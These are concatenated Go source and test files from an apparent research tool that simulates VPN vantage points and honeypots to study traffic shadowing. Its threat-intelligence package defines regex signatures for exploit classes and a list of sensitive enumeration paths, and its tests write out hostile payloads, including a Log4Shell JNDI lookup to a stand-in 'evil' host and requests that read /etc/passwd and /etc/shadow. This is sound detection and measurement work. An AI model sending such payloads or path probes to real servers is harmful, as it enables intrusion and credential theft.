	raw := "GET / HTTP/1.1\r\nHOST: UPPER.example\r\nX-Custom:  spaced \r\n\r\n"
	got, err := ParseRequest([]byte(raw))
	if err != nil {
		t.Fatal(err)
	}
	if got.Host() != "UPPER.example" {
		t.Errorf("Host = %q", got.Host())
	}
	if got.Header("x-custom") != "spaced" {
		t.Errorf("X-Custom = %q", got.Header("x-custom"))
	}
}

func TestRoundTripProperty(t *testing.T) {
	f := func(pathSeed uint32, bodyLen uint8) bool {
		path := "/p" + strings.Repeat("a", int(pathSeed%50))
		req := &Request{
			Method:  "GET",
			Path:    path,
			Headers: map[string]string{"host": "h.example"},
			Body:    bytes.Repeat([]byte("b"), int(bodyLen)),
		}
		got, err := ParseRequest(req.Encode())
		if err != nil {
			return false
		}
		return got.Path == path && len(got.Body) == int(bodyLen)
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}

func BenchmarkEncodeGET(b *testing.B) {
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		NewGET("id.www.experiment.domain", "/").Encode()
	}
}

func BenchmarkParseRequest(b *testing.B) {
	data := NewGET("id.www.experiment.domain", "/admin/backup").Encode()
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		if _, err := ParseRequest(data); err != nil {
			b.Fatal(err)
		}
	}
}
