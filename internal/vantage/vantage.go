// Package vantage implements the VPN-based measurement platform of
// Section 3: commercial VPN providers (Table 5), their datacenter vantage
// points, VP address discovery via honeypot connections, and the provider
// screening of Appendix E (TTL-resetting and residential providers are
// excluded before the experiment).
package vantage

import (
	"fmt"
	"math/rand"
	"sort"
	"strings"
	"sync"

	"shadowmeter/internal/netsim"
	"shadowmeter/internal/topology"
	"shadowmeter/internal/wire"
)

// Market is a provider's market segment.
type Market int

// Markets.
const (
	Global Market = iota // globally accessible providers
	CN                   // mainland-China providers
)

// String names the market.
func (m Market) String() string {
	if m == CN {
		return "CN"
	}
	return "Global"
}

// Provider is one commercial VPN service.
type Provider struct {
	Name   string
	Market Market
	URL    string
	// ResetsTTL marks providers whose egress rewrites the IP TTL of every
	// outgoing packet, breaking hop-by-hop tracerouting (Appendix E). Such
	// providers are detected in screening and excluded.
	ResetsTTL bool
	// Residential marks user-hosted (residential) node pools, excluded for
	// the ethical reasons of Appendix A.
	Residential bool
}

// Providers is the Table 5 listing: 6 global + 13 CN datacenter providers,
// plus screening foils (one TTL-resetting, one residential) that the
// platform must reject.
var Providers = []Provider{
	{Name: "Anonine", Market: Global, URL: "https://anonine.com/"},
	{Name: "AzireVPN", Market: Global, URL: "https://www.azirevpn.com/"},
	{Name: "Cryptostorm", Market: Global, URL: "https://cryptostorm.is/"},
	{Name: "HideMe", Market: Global, URL: "https://hide.me/"},
	{Name: "PrivateInt", Market: Global, URL: "https://www.privateinternetaccess.com/"},
	{Name: "PureVPN", Market: Global, URL: "https://www.purevpn.com/"},
	{Name: "QiXun", Market: CN, URL: "https://www.ipkuip.com/product/Buy?id=3"},
	{Name: "XunYou", Market: CN, URL: "https://www.ipkuip.com/product/Buy?id=6"},
	{Name: "YOYO", Market: CN, URL: "https://www.ipkuip.com/product/Buy?id=51"},
	{Name: "BeiKe", Market: CN, URL: "https://www.ipkuip.com/product/Buy?id=44"},
	{Name: "SunYunD", Market: CN, URL: "https://www.ipkuip.com/product/Buy?id=92"},
	{Name: "HuoJian", Market: CN, URL: "https://www.ipkuip.com/product/Buy?id=128"},
	{Name: "DuoDuo", Market: CN, URL: "https://www.ipkuip.com/product/Buy?id=116"},
	{Name: "MoGu", Market: CN, URL: "https://www.juip.com/product/Buy?id=1032"},
	{Name: "QiangZi", Market: CN, URL: "https://www.juip.com/product/Buy"},
	{Name: "XunLian", Market: CN, URL: "https://www.juip.com/product/Buy"},
	{Name: "TianTian", Market: CN, URL: "https://www.juip.com/product/Buy?id=71"},
	{Name: "JiKe", Market: CN, URL: "https://www.juip.com/product/Buy"},
	{Name: "XiGua", Market: CN, URL: "https://www.juip.com/product/Buy"},
	// Screening foils — never part of the final platform.
	{Name: "TTLMangleVPN", Market: Global, URL: "https://example.invalid/", ResetsTTL: true},
	{Name: "HomeNodesVPN", Market: Global, URL: "https://example.invalid/", Residential: true},
}

// VP is one vantage point: a VPN egress node the scheduler can send decoys
// from.
type VP struct {
	Provider *Provider
	Host     *netsim.Host
	Addr     wire.Addr
	// Discovered metadata (filled by DiscoverAddresses, not trusted from
	// the provider):
	DiscoveredAddr wire.Addr
	Country        string
	Province       string // CN VPs
	ASN            int
	Hosting        bool
}

// SendUDP emits a UDP datagram from the VP with the requested initial TTL,
// applying the provider's TTL mangling if any (ground truth the screening
// phase must catch).
func (vp *VP) SendUDP(n *netsim.Network, dst wire.Endpoint, ttl uint8, ipID uint16, payload []byte) {
	vp.Host.SendUDPOneShot(n, dst, vp.effectiveTTL(ttl), ipID, payload)
}

// SendUDPRequest sends a UDP request expecting a reply (decoy Phase I).
func (vp *VP) SendUDPRequest(n *netsim.Network, dst wire.Endpoint, payload []byte, opts netsim.UDPRequestOpts) {
	opts.TTL = vp.effectiveTTL(opts.TTL)
	vp.Host.SendUDPRequest(n, dst, payload, opts)
}

// SendTCPRequest opens a handshake + request exchange (HTTP/TLS decoys).
func (vp *VP) SendTCPRequest(n *netsim.Network, dst wire.Endpoint, payload []byte, opts netsim.TCPRequestOpts) {
	opts.TTL = vp.effectiveTTL(opts.TTL)
	vp.Host.SendTCPRequest(n, dst, payload, opts)
}

// SendRawTCP emits a bare TCP data packet (Phase II traceroute mode).
func (vp *VP) SendRawTCP(n *netsim.Network, dst wire.Endpoint, ttl uint8, ipID uint16, payload []byte) {
	vp.Host.SendRawTCPPayload(n, dst, vp.effectiveTTL(ttl), ipID, payload)
}

func (vp *VP) effectiveTTL(ttl uint8) uint8 {
	if vp.Provider.ResetsTTL {
		return 64
	}
	if ttl == 0 {
		return 64
	}
	return ttl
}

// Platform is the recruited VP fleet.
type Platform struct {
	VPs []*VP

	mu       sync.Mutex
	excluded map[string]string // provider -> reason
}

// Config parameterizes platform construction.
type Config struct {
	Seed int64
	// VPsPerGlobalProvider scales the global fleet (paper: 2,179 over 6
	// providers ≈ 363 each). 0 means 24.
	VPsPerGlobalProvider int
	// VPsPerCNProvider scales the CN fleet (paper: 2,185 over 13 ≈ 168
	// each). 0 means 12.
	VPsPerCNProvider int
}

// Build places VPs for every (non-foil) provider into hosting ASes of the
// topology: global providers across countries weighted by the country
// table, CN providers across provinces. Foil providers also get nodes —
// screening must find and exclude them.
func Build(n *netsim.Network, topo *topology.Topology, cfg Config) *Platform {
	if cfg.VPsPerGlobalProvider <= 0 {
		cfg.VPsPerGlobalProvider = 24
	}
	if cfg.VPsPerCNProvider <= 0 {
		cfg.VPsPerCNProvider = 12
	}
	rng := rand.New(rand.NewSource(cfg.Seed))
	p := &Platform{excluded: make(map[string]string)}

	// Weighted country pool for global placement. Only VPN-rentable
	// datacenter ASes qualify — CDN/web-hosting and service-operator ASes
	// are hosting-flagged in the geo DB but do not sell VPN egress.
	var pool []string
	for _, c := range topology.Countries {
		if c.Code == "CN" {
			continue
		}
		if len(vpnHosting(topo, c.Code)) == 0 {
			continue
		}
		for i := 0; i < c.Weight; i++ {
			pool = append(pool, c.Code)
		}
	}
	cnHosting := vpnHosting(topo, "CN")
	cnEyeball := nonHosting(topo.CountryASes("CN"))

	for i := range Providers {
		prov := &Providers[i]
		var count int
		if prov.Market == CN {
			count = cfg.VPsPerCNProvider
		} else {
			count = cfg.VPsPerGlobalProvider
		}
		for j := 0; j < count; j++ {
			var as *topology.AS
			switch {
			case prov.Residential:
				// Residential pools land in eyeball (non-hosting) networks.
				all := nonHosting(topo.CountryASes(pool[rng.Intn(len(pool))]))
				if len(all) == 0 {
					continue
				}
				as = all[rng.Intn(len(all))]
			case prov.Market == CN:
				if prov.Residential && len(cnEyeball) > 0 {
					as = cnEyeball[rng.Intn(len(cnEyeball))]
				} else {
					as = cnHosting[rng.Intn(len(cnHosting))]
				}
			default:
				hosting := vpnHosting(topo, pool[rng.Intn(len(pool))])
				as = hosting[rng.Intn(len(hosting))]
			}
			addr := topo.AllocHostAddr(as)
			vp := &VP{
				Provider: prov,
				Host:     netsim.NewHost(n, addr),
				Addr:     addr,
				Province: as.Province,
			}
			p.VPs = append(p.VPs, vp)
		}
	}
	return p
}

// vpnHosting returns the datacenter ASes a VPN provider could rent egress
// in: hosting ASes whose name marks them as generic datacenters.
func vpnHosting(topo *topology.Topology, country string) []*topology.AS {
	var out []*topology.AS
	for _, as := range topo.HostingASes(country) {
		if strings.Contains(as.Name, "-DC-") || strings.Contains(as.Name, "IDC") {
			out = append(out, as)
		}
	}
	return out
}

func nonHosting(ases []*topology.AS) []*topology.AS {
	var out []*topology.AS
	for _, as := range ases {
		if !as.Hosting {
			out = append(out, as)
		}
	}
	return out
}

// EchoService returns a TCPApp that answers with the textual source address
// it observed — the "what is my IP" endpoint VPs use for discovery.
func EchoService() netsim.TCPApp {
	return func(n *netsim.Network, from wire.Endpoint, payload []byte) []byte {
		return []byte(from.Addr.String())
	}
}

// DiscoverAddresses implements the paper's VP geolocation: each VP opens a
// TCP connection to the echo service at echo (run by the honeypot
// operator); the service reports the source address it observed, which the
// platform then geolocates via lookup. Advertised provider locations are
// never trusted. It runs the network to completion.
func (p *Platform) DiscoverAddresses(n *netsim.Network, echo wire.Endpoint, lookup func(wire.Addr) (country string, asn int, hosting bool, ok bool)) {
	for _, vp := range p.VPs {
		vp := vp
		vp.Host.SendTCPRequest(n, echo, []byte("WHOAMI"), netsim.TCPRequestOpts{
			OnResponse: func(n *netsim.Network, payload []byte) {
				addr, err := wire.ParseAddr(string(payload))
				if err != nil {
					return
				}
				vp.DiscoveredAddr = addr
				if country, asn, hosting, ok := lookup(addr); ok {
					vp.Country = country
					vp.ASN = asn
					vp.Hosting = hosting
				}
			},
		})
	}
	n.RunUntilIdle()
}

// Screen excludes providers that (a) reset TTLs — detected by sending two
// probes with distinct initial TTLs to a controlled raw listener and
// comparing arrival TTLs — or (b) run residential nodes, detected when the
// majority of a provider's discovered addresses lack the hosting label.
// It returns the per-provider exclusion reasons.
func (p *Platform) Screen(n *netsim.Network, ttlProbe func(vp *VP, ttl uint8) (arrivalTTL uint8, ok bool)) map[string]string {
	// Group by provider but probe in first-seen VP order: ranging over a
	// pointer-keyed map would reorder the probes (and the whole event
	// schedule) run to run.
	byProvider := make(map[*Provider][]*VP)
	var order []*Provider
	for _, vp := range p.VPs {
		if _, ok := byProvider[vp.Provider]; !ok {
			order = append(order, vp.Provider)
		}
		byProvider[vp.Provider] = append(byProvider[vp.Provider], vp)
	}

	for _, prov := range order {
		vps := byProvider[prov]
		// (a) TTL-reset detection on the provider's first VP.
		vp := vps[0]
		a1, ok1 := ttlProbe(vp, 19)
		a2, ok2 := ttlProbe(vp, 27)
		if ok1 && ok2 && a1 == a2 {
			p.exclude(prov.Name, "resets IP TTL (breaks hop-by-hop traceroute)")
			continue
		}
		// (b) Residential detection: hosting-label majority.
		hosting := 0
		for _, v := range vps {
			if v.Hosting {
				hosting++
			}
		}
		if hosting*2 < len(vps) {
			p.exclude(prov.Name, "majority of nodes lack hosting label (residential)")
		}
	}

	// Drop VPs of excluded providers.
	var kept []*VP
	for _, vp := range p.VPs {
		if _, bad := p.excluded[vp.Provider.Name]; !bad {
			kept = append(kept, vp)
		}
	}
	p.VPs = kept
	return p.Excluded()
}

func (p *Platform) exclude(provider, reason string) {
	p.mu.Lock()
	defer p.mu.Unlock()
	p.excluded[provider] = reason
}

// Excluded returns a copy of the exclusion map.
func (p *Platform) Excluded() map[string]string {
	p.mu.Lock()
	defer p.mu.Unlock()
	out := make(map[string]string, len(p.excluded))
	for k, v := range p.excluded {
		out[k] = v
	}
	return out
}

// Summary is one row of Table 1.
type Summary struct {
	Segment   string
	Providers int
	IPs       int
	ASes      int
	Regions   int // countries (global) or provinces (CN)
}

// Capabilities computes Table 1 from discovered metadata.
func (p *Platform) Capabilities() []Summary {
	type agg struct {
		providers map[string]bool
		ips       int
		ases      map[int]bool
		regions   map[string]bool
	}
	newAgg := func() *agg {
		return &agg{providers: map[string]bool{}, ases: map[int]bool{}, regions: map[string]bool{}}
	}
	global, cn := newAgg(), newAgg()
	for _, vp := range p.VPs {
		a := global
		region := vp.Country
		if vp.Provider.Market == CN {
			a = cn
			region = vp.Province
		}
		a.providers[vp.Provider.Name] = true
		a.ips++
		a.ases[vp.ASN] = true
		if region != "" {
			a.regions[region] = true
		}
	}
	return []Summary{
		{Segment: "Global (excl. CN)", Providers: len(global.providers), IPs: global.ips, ASes: len(global.ases), Regions: len(global.regions)},
		{Segment: "China (CN mainland)", Providers: len(cn.providers), IPs: cn.ips, ASes: len(cn.ases), Regions: len(cn.regions)},
		{Segment: "Total", Providers: len(global.providers) + len(cn.providers), IPs: global.ips + cn.ips,
			ASes: len(global.ases) + len(cn.ases), Regions: len(global.regions) + len(cn.regions)},
	}
}

// ByCountry groups kept VPs by discovered country, sorted keys.
func (p *Platform) ByCountry() map[string][]*VP {
	out := make(map[string][]*VP)
	for _, vp := range p.VPs {
		out[vp.Country] = append(out[vp.Country], vp)
	}
	return out
}

// CountryCodes lists the distinct countries of kept VPs.
func (p *Platform) CountryCodes() []string {
	set := make(map[string]bool)
	for _, vp := range p.VPs {
		if vp.Country != "" {
			set[vp.Country] = true
		}
	}
	out := make([]string, 0, len(set))
	for c := range set {
		out = append(out, c)
	}
	sort.Strings(out)
	return out
}

// String renders a short platform description.
func (p *Platform) String() string {
	return fmt.Sprintf("platform: %d VPs, %d countries", len(p.VPs), len(p.CountryCodes()))
}
