package vantage

import (
	"testing"
	"time"

	"shadowmeter/internal/netsim"
	"shadowmeter/internal/topology"
	"shadowmeter/internal/wire"
)

var t0 = time.Date(2024, 3, 1, 0, 0, 0, 0, time.UTC)

func buildWorld(t *testing.T) (*netsim.Network, *topology.Topology, *Platform) {
	t.Helper()
	topo := topology.Build(topology.Config{Seed: 9})
	n := netsim.New(netsim.Config{Start: t0, Path: topo.PathFunc()})
	p := Build(n, topo, Config{Seed: 9, VPsPerGlobalProvider: 8, VPsPerCNProvider: 4})
	return n, topo, p
}

// discoverAndScreen runs the full pre-experiment pipeline against an echo
// host and a raw TTL-reporting listener.
func discoverAndScreen(t *testing.T, n *netsim.Network, topo *topology.Topology, p *Platform) {
	t.Helper()
	// Echo service in a US hosting AS.
	usAS := topo.HostingASes("US")[0]
	echoAddr := topo.AllocHostAddr(usAS)
	echoHost := netsim.NewHost(n, echoAddr)
	echoHost.ServeTCP(80, EchoService())

	p.DiscoverAddresses(n, wire.Endpoint{Addr: echoAddr, Port: 80}, func(a wire.Addr) (string, int, bool, bool) {
		info, ok := topo.Geo.Lookup(a)
		if !ok {
			return "", 0, false, false
		}
		return info.Country, info.ASN, info.Hosting, true
	})

	// Raw TTL listener: reports arrival TTLs per flow synchronously via a
	// closure the probe callback reads after running the network.
	ttlAddr := topo.AllocHostAddr(usAS)
	lastTTL := make(map[wire.Addr]uint8)
	n.AddHost(ttlAddr, netsim.HandlerFunc(func(n *netsim.Network, pkt *wire.Packet) {
		lastTTL[pkt.IP.Src] = pkt.IP.TTL
	}))
	p.Screen(n, func(vp *VP, ttl uint8) (uint8, bool) {
		delete(lastTTL, vp.Addr)
		vp.SendUDP(n, wire.Endpoint{Addr: ttlAddr, Port: 9}, ttl, 1, []byte("ttlprobe"))
		n.RunUntilIdle()
		got, ok := lastTTL[vp.Addr]
		return got, ok
	})
}

func TestBuildPlacesVPs(t *testing.T) {
	_, _, p := buildWorld(t)
	// 6 global * 8 + 13 CN * 4 + foils (8 + 8).
	want := 6*8 + 13*4 + 16
	if len(p.VPs) != want {
		t.Fatalf("VPs = %d, want %d", len(p.VPs), want)
	}
	cn := 0
	for _, vp := range p.VPs {
		if vp.Provider.Market == CN {
			cn++
			if vp.Province == "" {
				t.Errorf("CN VP without province")
			}
		}
	}
	if cn != 13*4 {
		t.Errorf("CN VPs = %d", cn)
	}
}

func TestDiscoveryFindsTrueAddresses(t *testing.T) {
	n, topo, p := buildWorld(t)
	discoverAndScreen(t, n, topo, p)
	for _, vp := range p.VPs[:20] {
		if vp.DiscoveredAddr != vp.Addr {
			t.Errorf("discovered %v, true %v", vp.DiscoveredAddr, vp.Addr)
		}
		if vp.Country == "" {
			t.Errorf("VP %v has no discovered country", vp.Addr)
		}
	}
}

func TestScreeningExcludesFoils(t *testing.T) {
	n, topo, p := buildWorld(t)
	discoverAndScreen(t, n, topo, p)
	excluded := p.Excluded()
	if _, ok := excluded["TTLMangleVPN"]; !ok {
		t.Errorf("TTL-resetting provider not excluded: %v", excluded)
	}
	if _, ok := excluded["HomeNodesVPN"]; !ok {
		t.Errorf("residential provider not excluded: %v", excluded)
	}
	for _, vp := range p.VPs {
		if vp.Provider.ResetsTTL || vp.Provider.Residential {
			t.Fatalf("foil VP survived screening: %s", vp.Provider.Name)
		}
	}
	// Legit providers survive.
	if len(excluded) != 2 {
		t.Errorf("excluded = %v, want only the two foils", excluded)
	}
}

func TestCapabilitiesTable(t *testing.T) {
	n, topo, p := buildWorld(t)
	discoverAndScreen(t, n, topo, p)
	rows := p.Capabilities()
	if len(rows) != 3 {
		t.Fatalf("rows = %d", len(rows))
	}
	global, cn, total := rows[0], rows[1], rows[2]
	if global.Providers != 6 || cn.Providers != 13 || total.Providers != 19 {
		t.Errorf("providers = %d/%d/%d", global.Providers, cn.Providers, total.Providers)
	}
	if global.IPs != 48 || cn.IPs != 52 {
		t.Errorf("IPs = %d/%d", global.IPs, cn.IPs)
	}
	if total.IPs != global.IPs+cn.IPs {
		t.Errorf("total IPs inconsistent")
	}
	if global.Regions < 5 {
		t.Errorf("global regions = %d, want several countries", global.Regions)
	}
	if cn.Regions < 3 {
		t.Errorf("CN provinces = %d", cn.Regions)
	}
	if global.ASes == 0 || cn.ASes == 0 {
		t.Error("AS counts empty")
	}
}

func TestTTLMangleGroundTruth(t *testing.T) {
	_, _, p := buildWorld(t)
	var mangle, normal *VP
	for _, vp := range p.VPs {
		if vp.Provider.Name == "TTLMangleVPN" {
			mangle = vp
		} else if !vp.Provider.Residential {
			if normal == nil {
				normal = vp
			}
		}
	}
	if mangle == nil || normal == nil {
		t.Fatal("missing VPs")
	}
	if got := mangle.effectiveTTL(7); got != 64 {
		t.Errorf("mangled TTL = %d, want 64", got)
	}
	if got := normal.effectiveTTL(7); got != 7 {
		t.Errorf("normal TTL = %d, want 7", got)
	}
	if got := normal.effectiveTTL(0); got != 64 {
		t.Errorf("default TTL = %d, want 64", got)
	}
}

func TestByCountryGrouping(t *testing.T) {
	n, topo, p := buildWorld(t)
	discoverAndScreen(t, n, topo, p)
	groups := p.ByCountry()
	if len(groups) < 5 {
		t.Errorf("countries = %d", len(groups))
	}
	if len(groups["CN"]) == 0 {
		t.Error("no CN VPs after screening")
	}
	codes := p.CountryCodes()
	if len(codes) == 0 || len(codes) > len(groups) {
		t.Errorf("codes %d vs groups %d", len(codes), len(groups))
	}
}

func TestProviderTable(t *testing.T) {
	global, cn, foils := 0, 0, 0
	for _, prov := range Providers {
		switch {
		case prov.ResetsTTL || prov.Residential:
			foils++
		case prov.Market == CN:
			cn++
		default:
			global++
		}
	}
	if global != 6 || cn != 13 || foils != 2 {
		t.Errorf("provider mix = %d global, %d CN, %d foils", global, cn, foils)
	}
	if Global.String() != "Global" || CN.String() != "CN" {
		t.Error("market names")
	}
}
