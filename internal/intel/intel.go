// Package intel provides the threat-intelligence substrates the behavioral
// analysis consults: an IP blocklist standing in for Spamhaus, and a payload
// signature matcher standing in for the exploit-db corpus. Both carry
// deterministic synthetic data so experiments are reproducible.
package intel

import (
	"regexp"
	"strings"
	"sync"

	"shadowmeter/internal/wire"
)

// Blocklist is an IP reputation list (Spamhaus-like). Membership is by
// exact address or covering /24.
type Blocklist struct {
	mu       sync.RWMutex
	addrs    map[wire.Addr]string // addr -> listing reason
	prefixes map[wire.Addr]string // /24 base -> reason
}

// NewBlocklist returns an empty blocklist.
func NewBlocklist() *Blocklist {
	return &Blocklist{
		addrs:    make(map[wire.Addr]string),
		prefixes: make(map[wire.Addr]string),
	}
}

// ListAddr adds a single address with a reason code.
func (b *Blocklist) ListAddr(a wire.Addr, reason string) {
	b.mu.Lock()
	defer b.mu.Unlock()
	b.addrs[a] = reason
}

// ListPrefix24 lists an entire /24 (the base's host octet is ignored).
func (b *Blocklist) ListPrefix24(a wire.Addr, reason string) {
	b.mu.Lock()
	defer b.mu.Unlock()
	b.prefixes[a.Slash24()] = reason
}

// Contains reports whether a is listed, with the listing reason.
func (b *Blocklist) Contains(a wire.Addr) (string, bool) {
	b.mu.RLock()
	defer b.mu.RUnlock()
	if r, ok := b.addrs[a]; ok {
		return r, true
	}
	if r, ok := b.prefixes[a.Slash24()]; ok {
		return r, true
	}
	return "", false
}

// IsListed is a boolean convenience for Contains.
func (b *Blocklist) IsListed(a wire.Addr) bool {
	_, ok := b.Contains(a)
	return ok
}

// Len reports the number of listings (addresses + prefixes).
func (b *Blocklist) Len() int {
	b.mu.RLock()
	defer b.mu.RUnlock()
	return len(b.addrs) + len(b.prefixes)
}

// Listing reasons used by the synthetic data.
const (
	ReasonSBL  = "SBL"  // spam source
	ReasonXBL  = "XBL"  // exploited host
	ReasonDROP = "DROP" // hijacked/leased ranges
)

// Signature is one exploit-db-style detection rule over request payloads.
type Signature struct {
	ID          string
	Description string
	Severity    string // "low", "medium", "high", "critical"
	pattern     *regexp.Regexp
}

// SignatureDB matches request payloads against known exploit patterns.
type SignatureDB struct {
	sigs []Signature
}

// NewSignatureDB compiles the given (id, description, severity, pattern)
// rules. Patterns are regular expressions matched case-insensitively
// against the full request line + payload.
func NewSignatureDB(rules []SignatureRule) (*SignatureDB, error) {
	db := &SignatureDB{}
	for _, r := range rules {
		re, err := regexp.Compile("(?i)" + r.Pattern)
		if err != nil {
			return nil, err
		}
		db.sigs = append(db.sigs, Signature{
			ID: r.ID, Description: r.Description, Severity: r.Severity, pattern: re,
		})
	}
	return db, nil
}

// SignatureRule is the construction input for one signature.
type SignatureRule struct {
	ID, Description, Severity, Pattern string
}

// DefaultSignatureRules is a representative exploit corpus: the classes of
// payloads the paper checked unsolicited requests against (and found
// absent). Shadowing probes in the simulation perform benign path
// enumeration, so analysis over honeypot logs should report zero matches —
// mirroring the paper's "no exploit codes found" result.
var DefaultSignatureRules = []SignatureRule{
	{"EDB-0001", "PHP remote code execution attempt", "critical", `(?:\?|&)(?:cmd|exec|system)=`},
	{"EDB-0002", "Log4Shell JNDI injection", "critical", `\$\{jndi:(?:ldap|rmi|dns)://`},
	{"EDB-0003", "Shellshock CGI header injection", "critical", `\(\)\s*\{\s*:;\s*\}\s*;`},
	{"EDB-0004", "SQL injection (union select)", "high", `union[+\s]+select`},
	{"EDB-0005", "Directory traversal escape", "high", `\.\./\.\./`},
	{"EDB-0006", "Struts2 OGNL injection", "critical", `%\{\(#`},
	{"EDB-0007", "XML external entity", "high", `<!ENTITY\s+\S+\s+SYSTEM`},
	{"EDB-0008", "Cross-site scripting probe", "medium", `<script[^>]*>`},
	{"EDB-0009", "PHPUnit eval-stdin RCE", "critical", `eval-stdin\.php`},
	{"EDB-0010", "Spring4Shell class.module probe", "critical", `class\.module\.classLoader`},
}

// DefaultSignatureDB builds the default corpus; it panics on compile error
// because the rules are static.
func DefaultSignatureDB() *SignatureDB {
	db, err := NewSignatureDB(DefaultSignatureRules)
	if err != nil {
		panic(err)
	}
	return db
}

// Match returns all signatures matching the payload.
func (db *SignatureDB) Match(payload string) []Signature {
	var out []Signature
	for _, s := range db.sigs {
		if s.pattern.MatchString(payload) {
			out = append(out, s)
		}
	}
	return out
}

// Matches reports whether any signature fires.
func (db *SignatureDB) Matches(payload string) bool {
	for _, s := range db.sigs {
		if s.pattern.MatchString(payload) {
			return true
		}
	}
	return false
}

// Len reports the number of compiled signatures.
func (db *SignatureDB) Len() int { return len(db.sigs) }

// EnumerationPaths is the dictionary shadowing probes walk when performing
// HTTP path enumeration against honey websites (Section 5.1: "95% of
// requests are performing path enumeration that attempts to yield
// directories of our honey website").
var EnumerationPaths = []string{
	"/", "/admin/", "/login", "/wp-login.php", "/backup/", "/.git/config",
	"/config.php", "/phpinfo.php", "/robots.txt", "/.env", "/api/",
	"/test/", "/old/", "/dev/", "/staging/", "/uploads/", "/db/",
	"/static/", "/console", "/manager/html",
}

// IsEnumerationPath reports whether an HTTP path looks like directory/file
// enumeration rather than a normal page fetch. The classifier mirrors what
// the paper's manual payload inspection identified: dictionary paths,
// trailing-slash directory probes, and well-known sensitive filenames.
func IsEnumerationPath(path string) bool {
	p := strings.ToLower(path)
	if i := strings.IndexByte(p, '?'); i >= 0 {
		p = p[:i]
	}
	for _, known := range EnumerationPaths {
		if p == known {
			return true
		}
	}
	switch {
	case strings.HasSuffix(p, "/") && p != "/":
		return true
	case strings.Contains(p, "/.git"), strings.Contains(p, "/.env"),
		strings.Contains(p, "/wp-"), strings.Contains(p, "backup"),
		strings.Contains(p, "admin"), strings.Contains(p, "config"):
		return true
	}
	return false
}
