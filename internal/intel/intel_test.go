package intel

import (
	"testing"

	"shadowmeter/internal/wire"
)

func TestBlocklistAddr(t *testing.T) {
	b := NewBlocklist()
	a := wire.MustParseAddr("203.0.113.66")
	if b.IsListed(a) {
		t.Error("empty blocklist should not list anything")
	}
	b.ListAddr(a, ReasonXBL)
	reason, ok := b.Contains(a)
	if !ok || reason != ReasonXBL {
		t.Errorf("Contains = %q, %v", reason, ok)
	}
	if b.IsListed(wire.MustParseAddr("203.0.113.67")) {
		t.Error("neighbor should not be listed by exact-address entry")
	}
}

func TestBlocklistPrefix(t *testing.T) {
	b := NewBlocklist()
	b.ListPrefix24(wire.MustParseAddr("198.51.100.200"), ReasonDROP)
	if !b.IsListed(wire.MustParseAddr("198.51.100.1")) {
		t.Error("/24 listing should cover whole prefix")
	}
	if b.IsListed(wire.MustParseAddr("198.51.101.1")) {
		t.Error("adjacent /24 should not be listed")
	}
	if b.Len() != 1 {
		t.Errorf("Len = %d", b.Len())
	}
}

func TestSignatureDBDetectsExploits(t *testing.T) {
	db := DefaultSignatureDB()
	if db.Len() != len(DefaultSignatureRules) {
		t.Fatalf("Len = %d", db.Len())
	}
	malicious := []string{
		"GET /index.php?cmd=cat+/etc/passwd HTTP/1.1",
		"GET /x HTTP/1.1\r\nUser-Agent: ${jndi:ldap://evil/a}",
		"GET /../../etc/shadow HTTP/1.1",
		"GET /page?q=1 UNION SELECT password FROM users",
		"POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
	}
	for _, p := range malicious {
		if !db.Matches(p) {
			t.Errorf("exploit payload not detected: %q", p)
		}
	}
}

func TestSignatureDBBenignClean(t *testing.T) {
	db := DefaultSignatureDB()
	benign := []string{
		"GET / HTTP/1.1\r\nHost: honeysite",
		"GET /robots.txt HTTP/1.1",
		"GET /admin/ HTTP/1.1",
		"GET /uploads/ HTTP/1.1",
	}
	for _, p := range benign {
		if got := db.Match(p); len(got) != 0 {
			t.Errorf("benign payload flagged by %v: %q", got[0].ID, p)
		}
	}
}

func TestSignatureMatchDetails(t *testing.T) {
	db := DefaultSignatureDB()
	got := db.Match("GET /?cmd=id HTTP/1.1")
	if len(got) != 1 || got[0].ID != "EDB-0001" || got[0].Severity != "critical" {
		t.Errorf("Match = %+v", got)
	}
}

func TestNewSignatureDBBadPattern(t *testing.T) {
	if _, err := NewSignatureDB([]SignatureRule{{ID: "x", Pattern: "("}}); err == nil {
		t.Error("bad regexp should fail")
	}
}

func TestIsEnumerationPath(t *testing.T) {
	enum := []string{"/admin/", "/wp-login.php", "/.git/config", "/backup/", "/uploads/", "/db/", "/some/dir/", "/config.php", "/.env"}
	for _, p := range enum {
		if !IsEnumerationPath(p) {
			t.Errorf("IsEnumerationPath(%q) = false", p)
		}
	}
	normal := []string{"/index.html", "/products/item1.html", "/about"}
	for _, p := range normal {
		if IsEnumerationPath(p) {
			t.Errorf("IsEnumerationPath(%q) = true", p)
		}
	}
	// Root "/" is in the dictionary.
	if !IsEnumerationPath("/") {
		t.Error("root should count as enumeration start")
	}
	// Query strings are stripped before classification.
	if !IsEnumerationPath("/admin/?redirect=1") {
		t.Error("query string should be ignored")
	}
}

func BenchmarkSignatureMatch(b *testing.B) {
	db := DefaultSignatureDB()
	payload := "GET /uploads/ HTTP/1.1\r\nHost: honeysite\r\nUser-Agent: scanner"
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		db.Matches(payload)
	}
}

func BenchmarkBlocklistLookup(b *testing.B) {
	bl := NewBlocklist()
	for i := 0; i < 10000; i++ {
		bl.ListAddr(wire.AddrFrom(byte(i>>8), byte(i), 1, 1), ReasonSBL)
	}
	a := wire.MustParseAddr("10.20.1.1")
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		bl.IsListed(a)
	}
}
