package dnswire

import (
	"testing"
)

// refQueryName is the slow-path reference QueryNameFromBytes must agree
// with on every input.
func refQueryName(data []byte) (string, bool) {
	msg, err := Decode(data)
	if err != nil || msg.Header.QR || len(msg.Questions) == 0 {
		return "", false
	}
	return msg.QName(), true
}

// TestQueryNameFastPathMatchesDecode pins the sniffing fast path to the
// full decoder: for a corpus of queries, responses, and every truncation
// of each, both must return identical (name, ok).
func TestQueryNameFastPathMatchesDecode(t *testing.T) {
	var corpus [][]byte
	for _, name := range []string{
		"abc123.www.experiment.example",
		"MiXeD-CaSe.Www.Experiment.Example",
		"a.b",
		"x",
		"",
	} {
		q := NewQuery(0x1234, name, TypeA)
		b, err := q.Encode()
		if err != nil {
			t.Fatalf("encode %q: %v", name, err)
		}
		corpus = append(corpus, b)

		// A response to the same query (QR set, with an answer).
